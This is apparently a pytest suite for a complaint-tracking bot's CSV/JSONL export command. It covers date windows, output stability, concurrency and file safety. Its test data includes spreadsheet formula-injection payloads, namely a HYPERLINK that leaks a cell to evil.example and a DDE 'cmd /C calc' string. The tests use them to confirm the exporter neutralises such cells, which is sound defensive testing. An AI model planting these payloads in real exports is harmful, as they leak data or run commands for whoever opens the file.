"""``followthrough export``: stable columns, the date window in team time, CSV and JSON lines."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from contextlib import closing
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, null

from bot.cli import main
from bot.reports import export
from bot.store import migrate
from bot.store.engine import make_engine, make_sessionmaker
from bot.store.models import AuditEvent, Complaint, Promise
from tests.e2e.helpers import ROOT, base_env
from tests.support import export_reference as reference
from tests.support.report_history import ALICE, build


@pytest.fixture
def history(migrated: Engine, db_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[str, int]:
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
    monkeypatch.chdir(tmp_path)  # no stray .env is read
    return build(make_sessionmaker(migrated))


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--env-file", os.devnull, "export", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_complaints_csv_has_the_documented_columns_and_the_window(history, capsys):
    code, out, err = run(capsys, "--since", "2026-03-02", "--until", "2026-03-03", "--what", "complaints")
    assert code == 0
    table = list(csv.reader(io.StringIO(out)))
    assert table[0] == list(export.COMPLAINT_COLUMNS)
    assert table[0][:4] == ["id", "network", "post_id", "url"]
    # stored on the 2nd (c1, c2) and the 3rd (c3, c4): --until includes its whole day
    assert [r[2] for r in table[1:]] == ["c1", "c2", "c3", "c4"]
    row = dict(zip(table[0], table[1], strict=True))
    assert row["received_at"] == "2026-03-02T09:00:00.000000+00:00"
    assert row["owner"] == ALICE
    assert row["status"] == "resolved"
    assert err.strip() == "4 complaints exported"


def test_events_jsonl_carries_typed_details_as_objects(history, capsys):
    code, out, _ = run(
        capsys, "--since", "2026-03-05", "--until", "2026-03-05", "--what", "events", "--format", "jsonl"
    )
    assert code == 0
    lines = [json.loads(line) for line in out.splitlines()]
    assert all(list(line) == list(export.EVENT_COLUMNS) for line in lines)
    kinds = [line["kind"] for line in lines]
    assert kinds.count("promise_kept") == 1  # p3, on the 5th
    kept = next(line for line in lines if line["kind"] == "promise_kept")
    assert kept["details"]["on_time"] is True
    assert kept["at"] == "2026-03-05T15:00:00.000000+00:00"
    broken = next(line for line in lines if line["kind"] == "promise_broken")
    assert broken["details"]["on_time"] is False


def test_promises_to_a_file_and_the_team_time_zone(history, capsys, monkeypatch, tmp_path):
    target = tmp_path / "promises.csv"
    code, out, _ = run(capsys, "--since", "2026-03-10", "--what", "promises", "--output", str(target))
    assert code == 0
    assert out == ""
    table = list(csv.DictReader(target.open(encoding="utf-8")))
    assert [r["status"] for r in table] == ["cancelled"]
    assert table[0]["network"] == "x"
    # In Tokyo the 10th began at 15:00 UTC on the 9th: nothing more, but the 4th starts at 15:00 UTC
    # on the 3rd, so p4 (made 08:30 UTC on the 3rd) is before it and p6 (12:05 UTC on the 4th) after.
    monkeypatch.setenv("TEAM_TIMEZONE", "Asia/Tokyo")
    code, out, _ = run(capsys, "--since", "2026-03-04", "--until", "2026-03-04", "--what", "promises")
    assert [r["text"] for r in csv.DictReader(io.StringIO(out))] == ["follow up p6"]


def test_bad_dates_are_refused_clearly(history, capsys):
    with pytest.raises(SystemExit):
        main(["export", "--since", "March"])
    assert "is not a date like 2026-03-01" in capsys.readouterr().err
    code, _, err = run(capsys, "--since", "2026-03-05", "--until", "2026-03-01")
    assert code != 0
    assert "--until 2026-03-01 is before --since 2026-03-05" in err


# --- The faster export writes what the first one wrote -------------------------------------------

AWKWARD = [
    "plain",
    "",  # an empty string is an empty field, as NULL is
    'a "quoted" word, and a comma',
    "two\nlines",
    "windows\r\nline",
    "tab\there",
    "back\\slash \\n not a newline",
    "\\.",
    "control \x01\x1f\x7f characters",
    "accents é ñ ü, CJK 漢字, RTL עברית, emoji 🙂👍🏽",
    "line\u2028separator\u2029paragraph",
    "  spaces around  ",
    "null",
    "True",
    '"',
    ",",
    "#hash; semi;colon = +1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\x01=cmd|' /C calc'!A0",
    "'already quoted",
]
"""Every kind of value a CSV or JSON writer can get wrong (a bare carriage return is tested apart)."""

MARCH = datetime(2026, 3, 2, tzinfo=UTC)


def _awkward_history(engine: Engine) -> None:
    """Complaints, promises and events holding awkward values, NULLs, both booleans, microseconds,
    rows exactly on the window's edges, and two events stamped in January, the later one stored first
    and the earlier last (their ids span the table, so SQLite reads them through the time index and
    must sort them back into id order)."""
    sessions = make_sessionmaker(engine)
    with sessions() as s, s.begin():
        back_dated = AuditEvent(
            actor="Uimport", action="imported", note="first of two", details=None, at=datetime(2026, 1, 6, tzinfo=UTC)
        )
        s.add(back_dated)
        complaints: list[Complaint] = []
        for i, value in enumerate(AWKWARD):
            at = MARCH + timedelta(hours=i, microseconds=i * 1001)
            c = Complaint(
                source=["x", "bluesky", "mastodon"][i % 3],
                external_id=f"post-{i}" if i % 4 else value[:64] or "empty",
                author_id=f"a{i}",
                author_handle=value[:64],
                author_followers=10**12 + i,
                text=value,
                url=None if i % 2 else f"https://x.example/{i}?q={value[:20]}",
                posted_at=at - timedelta(minutes=5),
                lang=None if i % 3 else "en",
                kind=["complaint", "question", "praise", "other"][i % 4],
                priority=i - 3,
                status=["new", "claimed", "escalated", "resolved", "dismissed"][i % 5],
                owner_id=None if i % 2 else "UALICE0001",
                claimed_at=None if i % 2 else at + timedelta(minutes=10, microseconds=123456),
                escalation_tier=value[:64] if i % 5 == 2 else None,
                customer_confirmed=bool(i % 2),
                resolved_at=at + timedelta(hours=1) if i % 5 == 3 else None,
                resolved_by="UBOB000001" if i % 5 == 3 else None,
                duplicate_of=complaints[0].id if complaints and i % 6 == 5 else None,
                reply_count=i,
                amplification_count=i * 7,
                created_at=at,
                updated_at=at,
            )
            s.add(c)
            s.flush()
            complaints.append(c)
            p = Promise(
                complaint_id=c.id,
                owner_id="UALICE0001",
                text=value,
                due_at=at + timedelta(days=1),
                status=["open", "kept", "broken", "cancelled"][i % 4],
                reschedule_count=i % 3,
                created_by=value[:32] or "UALICE0001",
                created_at=at + timedelta(minutes=1),
                closed_at=at + timedelta(hours=2) if i % 4 else None,
                closed_by="UBOB000001" if i % 4 else None,
            )
            s.add(p)
            s.flush()
            details: list[Any] = [
                null(),  # SQL NULL
                None,  # JSON null, as SQLAlchemy stores None
                {"why": value, "on_time": True, "n": i, "nested": {"list": [1, 2.5, None, False]}},
                {"due_at": "2026-03-03T09:00:00+00:00", "owner": "UALICE0001"},
            ]
            for k in range(3):
                s.add(
                    AuditEvent(
                        complaint_id=c.id if k != 2 else None,
                        promise_id=p.id if k else None,
                        actor=value[:64] or "followthrough",
                        action=["claim", "promise", "note"][k],
                        from_status="new" if k == 0 else None,
                        to_status="claimed" if k == 0 else None,
                        note=value if k else None,
                        details=details[(i + k) % 4],
                        at=at + timedelta(minutes=k, microseconds=k),
                    )
                )
        # On the window's edges: the first instant of the 2nd is in, the first of the 21st is out.
        for at in (datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 21, tzinfo=UTC)):
            s.add(AuditEvent(actor="Uedge", action="note", note=at.isoformat(), at=at))
        s.add(AuditEvent(actor="Uimport", action="imported", note="second of two", at=datetime(2026, 1, 5, tzinfo=UTC)))


WINDOWS = [
    # (--since, --until): everything; March, with an event on each edge; January, whose two
    # back-dated events have the first and the last id (and no complaint or promise is in it)
    ("2025-12-01", None),
    ("2026-03-02", "2026-03-20"),
    ("2026-01-01", "2026-01-31"),
]


@pytest.mark.parametrize(("fmt", "raw"), [("csv", False), ("csv", True), ("jsonl", False)])
@pytest.mark.parametrize("what", ["complaints", "promises", "events"])
def test_every_export_is_byte_identical_to_the_first_version(
    migrated, db_url, monkeypatch, tmp_path, capsys, what, fmt, raw
):
    """Byte for byte the first export's output; CSV cells made safe for a spreadsheet unless ``--raw``."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
    monkeypatch.chdir(tmp_path)
    _awkward_history(migrated)
    for since, until in WINDOWS:
        target = tmp_path / f"{what}.{fmt}"
        args = ["--since", since, "--what", what, "--format", fmt, "--output", str(target), "--force"]
        code, _, err = run(capsys, *args, *(["--until", until] if until else []), *(["--raw"] if raw else []))
        assert code == 0, err
        start, end = export.window(date.fromisoformat(since), date.fromisoformat(until) if until else None, "UTC")
        expected = reference.export_bytes(migrated, what=what, fmt=fmt, start=start, end=end, safe=not raw)
        assert target.read_bytes() == expected, (since, until)
        text = expected.decode()
        rows = len(list(csv.reader(io.StringIO(text, newline="")))) - 1 if fmt == "csv" else text.count("\n")
        assert err.strip() == f"{rows} {what} exported"
    # The data really holds what the test is about: every awkward value went out at least once.
    everything = reference.export_bytes(
        migrated, what=what, fmt=fmt, start=MARCH, end=MARCH + timedelta(days=30), safe=not raw
    )
    assert b"\xf0\x9f\x99\x82" in everything  # 🙂
    if fmt == "csv":
        assert b'"a ""quoted"" word, and a comma"' in everything
        assert b'"two\nlines"' in everything
        formula = b'"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for refund"")"'
        if raw:
            assert formula in everything
            assert b"control \x01\x1f\x7f characters" in everything
        else:  # no cell a spreadsheet would run, no control character
            assert formula not in everything
            assert b"\"'" + formula[1:] in everything
            assert b",'+1 555 0100," in everything or b",'+1 555 0100\n" in everything
            assert b"control  characters" in everything
            rows = list(csv.reader(io.StringIO(everything.decode(), newline="")))
            cells = [cell for row in rows for cell in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or any(ord(ch) < 9 for ch in c)]
    else:
        assert b'"control \\u0001\\u001f\x7f characters"' in everything


def test_a_bare_carriage_return_is_quoted_so_the_row_stays_whole(migrated, db_url, monkeypatch, tmp_path, capsys):
    """Python's csv before 3.11.9 left it bare, and a reader ended the row there."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
    monkeypatch.chdir(tmp_path)
    with make_sessionmaker(migrated)() as s, s.begin():
        s.add(AuditEvent(actor="U1", action="note", note="one\rtwo three", at=MARCH))
    code, out, _ = run(capsys, "--since", "2026-03-02", "--what", "events")
    assert code == 0
    assert ',"one\rtwo three",' in out
    assert [r[8] for r in csv.reader(io.StringIO(out, newline=""))] == ["note", "one\rtwo three"]
    code, out, _ = run(capsys, "--since", "2026-03-02", "--what", "events", "--format", "jsonl")
    assert json.loads(out)["note"] == "one\rtwo three"


def test_a_database_without_the_tables_gets_a_clear_answer(engine, db_url, monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.chdir(tmp_path)
    with engine.begin() as conn:  # reachable, but never migrated
        conn.exec_driver_sql("CREATE TABLE unrelated (id INTEGER)")
    for fmt in ("csv", "jsonl"):
        code, _, err = run(capsys, "--since", "2026-03-02", "--what", "events", "--format", fmt)
        assert code == 3
        assert err.startswith("Followthrough cannot start: cannot read database")
        assert "audit_events" in err
        assert "Traceback" not in err


def test_the_window_is_found_through_an_index_and_read_in_key_order(sqlite_url):
    """SQLite: the span of each window comes from its time index alone, and the rows are then read
    in key order with no sort, whatever the table's size. (PostgreSQL's planner chooses from its
    statistics.)"""
    engine = make_engine(sqlite_url)
    migrate.upgrade(engine)
    raw = engine.raw_connection()
    raw.driver_connection.create_function(export.SQLITE_CELL, 1, export.spreadsheet_safe)
    try:
        for what, index in [
            ("complaints", "ix_complaints_created_kind_source"),
            ("promises", "ix_promises_created"),
            ("events", "ix_audit_events_at"),
        ]:
            plan = " | ".join(r[3] for r in raw.execute("EXPLAIN QUERY PLAN " + export.span_query(what), ("a", "b")))
            assert f"USING COVERING INDEX {index} (" in plan, (what, plan)
            for fmt in ("csv", "jsonl"):
                sql = export.query(what, fmt, "sqlite", by_key=True)
                plan = " | ".join(r[3] for r in raw.execute("EXPLAIN QUERY PLAN " + sql, (1, 2, "a", "b")))
                assert "USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)" in plan, (what, plan)
                assert "TEMP B-TREE" not in plan, (what, plan)
    finally:
        raw.close()
        engine.dispose()


def test_the_bot_keeps_writing_while_an_export_streams(sqlite_url, tmp_path):
    """The export runs as its own process, blocked on a full pipe halfway through its rows; a writer
    that will not wait at all still commits, and the export holds the rows as they were when it began."""
    engine = make_engine(sqlite_url)
    migrate.upgrade(engine)
    engine.dispose()
    path = sqlite_url.removeprefix("sqlite:///")
    total = 20_000  # about 2.6 MB of CSV: far more than a pipe holds
    with closing(sqlite3.connect(path)) as db, db:
        db.executemany(
            "INSERT INTO audit_events (actor, action, note, at) VALUES ('U1', 'note', ?, ?)",
            ((f"note {i}", f"2026-03-02 09:00:00.{i:06d}") for i in range(total)),
        )
    env = base_env(DATABASE_URL=sqlite_url, TEAM_TIMEZONE="UTC", PYTHONPATH=str(ROOT))
    command = [sys.executable, "-m", "bot", "--env-file", os.devnull, "export", "--since", "2026-03-01"]
    child = subprocess.Popen(
        [*command, "--what", "events"], cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        assert child.stdout is not None
        assert child.stdout.readline().startswith(b"id,at,kind,")
        assert child.stdout.readline().startswith(b"1,2026-03-02T09:00:00.000000+00:00,note,U1,")
        # Rows are on the pipe, so the export is reading; with most still to come, it waits on the pipe.
        with closing(sqlite3.connect(path, timeout=0, isolation_level=None)) as writer:
            writer.execute("BEGIN IMMEDIATE")  # "database is locked" at once if the export held the lock
            writer.execute("INSERT INTO audit_events (actor, action, at) VALUES ('U2', 'claim', '2026-03-02 10:00:00')")
            writer.execute("COMMIT")
        rest = child.stdout.read()
        assert child.stderr is not None
        err = child.stderr.read()
        child.wait(timeout=120)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert child.returncode == 0, err
    assert err.decode().strip() == f"{total} events exported"
    ids = [int(line.split(b",", 1)[0]) for line in rest.splitlines()]
    assert ids == list(range(2, total + 1))  # every row once, in order, and not the one written since


def test_the_file_is_utf8_whatever_the_connection_encoding(migrated, db_url, monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
    monkeypatch.setenv("PGCLIENTENCODING", "LATIN1")  # libpq's default for the connection; SQLite ignores it
    monkeypatch.chdir(tmp_path)
    with make_sessionmaker(migrated)() as s, s.begin():
        s.add(AuditEvent(actor="U1", action="note", note="café 🙂", at=MARCH))
    for fmt in ("csv", "jsonl"):
        target = tmp_path / f"events.{fmt}"
        code, _, err = run(
            capsys, "--since", "2026-03-02", "--what", "events", "--format", fmt, "--output", str(target)
        )
        assert code == 0, err
        assert "café 🙂".encode() in target.read_bytes()


# --- An export never destroys what it is pointed at (#22) ----------------------------------------


def test_an_export_refuses_to_write_over_the_database_or_an_existing_file(history, capsys, db_url, tmp_path):
    from bot.cli.startup import sqlite_file

    database = sqlite_file(db_url)
    if database is not None:  # `--output followthrough.db` used to truncate the bot's own database
        before = database.read_bytes()
        code, _, err = run(capsys, "--since", "2026-03-01", "--output", str(database))
        assert code != 0
        assert "is the database itself" in err
        assert database.read_bytes() == before
        code, _, err = run(capsys, "--since", "2026-03-01", "--output", f"{database}-wal", "--force")
        assert code != 0
    target = tmp_path / "old.csv"
    target.write_text("keep me")
    code, _, err = run(capsys, "--since", "2026-03-01", "--output", str(target))
    assert code != 0
    assert "exists; add --force" in err
    assert target.read_text() == "keep me"
    code, _, _ = run(capsys, "--since", "2026-03-01", "--output", str(target), "--force")
    assert code == 0
    assert target.read_text().startswith("id,network")
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_an_export_that_fails_halfway_leaves_the_old_file_whole(history, capsys, tmp_path, monkeypatch):
    target = tmp_path / "complaints.csv"
    target.write_text("yesterday's export")

    def broken(*_args, **_kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("bot.cli.export.export", broken)
    code, _, err = run(capsys, "--since", "2026-03-01", "--output", str(target), "--force")
    assert code != 0
    assert "No space left on device" in err
    assert target.read_text() == "yesterday's export"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_dates_outside_2006_to_2100_are_refused_in_one_line(history, capsys):
    for bad in ("9999-12-31", "1900-01-01"):
        with pytest.raises(SystemExit):
            main(["export", "--since", "2026-03-01", "--until", bad])
        err = capsys.readouterr().err
        assert "is outside 2006–2100" in err
        assert "Traceback" not in err


def test_read_only_commands_never_create_a_database(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'missing.db'}")
    for args in (["export", "--since", "2026-03-01"], ["db", "current"]):
        code = main(["--env-file", os.devnull, *args])
        assert code != 0
        out = capsys.readouterr()
        assert "there is no database at" in out.err + out.out
    assert not (tmp_path / "missing.db").exists()


def test_a_nul_stored_on_sqlite_never_reaches_the_csv_unless_raw(sqlite_url, monkeypatch, tmp_path, capsys):
    """SQLite keeps a NUL in text (PostgreSQL refuses it); a spreadsheet or a C tool cuts the file there."""
    engine = make_engine(sqlite_url)
    migrate.upgrade(engine)
    with make_sessionmaker(engine)() as s, s.begin():
        s.add(AuditEvent(actor="U1", action="note", note="before\x00after =1", at=MARCH))
        s.add(AuditEvent(actor="U1", action="note", note="\x00=2+2", at=MARCH))
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("TEAM_TIMEZONE", "UTC")
    monkeypatch.chdir(tmp_path)
    for raw in (False, True):
        target = tmp_path / f"events-{raw}.csv"
        code, _, err = run(
            capsys, "--since", "2026-03-02", "--what", "events", "--output", str(target), *(["--raw"] if raw else [])
        )
        assert code == 0, err
        data = target.read_bytes()
        notes = [row[8] for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]
        if raw:
            assert notes == ["before\x00after =1", "\x00=2+2"]
        else:
            assert b"\x00" not in data
            assert notes == ["beforeafter =1", "'=2+2"]


def test_owners_are_named_languages_detected_and_counts_read_right(history, capsys, migrated):
    """#25: owners came out as bare user ids; a post in Spanish with no network language had an empty
    ``language``; "1 promises exported"."""
    from bot.intake.ingest import Ingestor, IngestPolicy
    from bot.intake.posts import Post
    from bot.store.models import SlackUser
    from bot.triage.classify import Triage

    sessions = make_sessionmaker(migrated)
    with sessions() as s, s.begin():
        s.add(SlackUser(user_id=ALICE, name="Alice Doe", tz="UTC", fetched_at=datetime(2026, 3, 1, tzinfo=UTC)))
    post = Post(
        source="x",
        id="es-1",
        text="@AcmeHelp llevo tres semanas esperando mi reembolso y nadie me responde",
        author_id="77",
        author_handle="lucia",
        created_at=datetime(2026, 3, 20, 9, tzinfo=UTC),
    )
    Ingestor(Triage(), IngestPolicy("C0COMPLAIN")).ingest_batch(
        sessions, [post], at=datetime(2026, 3, 20, 9, tzinfo=UTC)
    )
    code, out, _ = run(capsys, "--since", "2026-03-02", "--until", "2026-03-20", "--what", "complaints")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["owner_name"] for r in rows if r["owner"] == ALICE} == {"Alice Doe"}
    assert {r["owner_name"] for r in rows if r["owner"] != ALICE} == {""}
    [spanish] = [r for r in rows if r["post_id"] == "es-1"]
    assert spanish["language"] == "es"
    code, _, err = run(capsys, "--since", "2026-03-20", "--until", "2026-03-20", "--what", "complaints")
    assert err.strip() == "1 complaint exported"
